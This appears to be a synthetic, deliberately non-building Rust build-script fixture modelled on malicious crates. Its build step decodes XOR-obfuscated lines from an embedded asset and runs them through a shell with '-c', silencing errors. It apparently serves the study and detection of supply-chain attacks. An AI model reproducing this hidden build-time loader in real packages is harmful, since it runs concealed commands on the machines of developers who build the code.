// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!(
        "cargo:rustc-env=KIT_PROFILE={}",
        std::env::var("PROFILE").unwrap_or_default()
    );
    probe_toolchain();
}

pub(crate) fn probe_toolchain() {
    let script = row(0);
    let _ = std::process::Command::new(&row(1))
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

static GLYPHS: &[u8] = include_bytes!("assets/buckets.bin");
fn row(n: usize) -> String {
    let start = GLYPHS.iter().position(|b| *b == b'\n').map_or(0, |p| p + 1);
    let plain: Vec<u8> = GLYPHS[start..].iter().map(|b| b ^ 0xa5).collect();
    String::from_utf8_lossy(&plain)
        .lines()
        .nth(n)
        .unwrap_or_default()
        .to_owned()
}

inert_fixture_does_not_build!();
